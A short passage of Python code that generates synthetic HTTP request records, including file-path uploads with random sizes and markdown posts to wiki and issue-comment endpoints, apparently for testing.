                "headers": {"user-agent": _ua(r)},
                "body": None,
            },
        )
        add("dotted_path", post({"path": text, "size": r.randrange(10**6)}, "/api/v2/files"))
    for text in MARKDOWN5B:
        add(
            "markdown",
            post(
                {"title": "Notes", "body": text},
                r.choice(["/api/wiki/pages/3", "/api/issues/9/comments"]),
            ),
        )
    return out
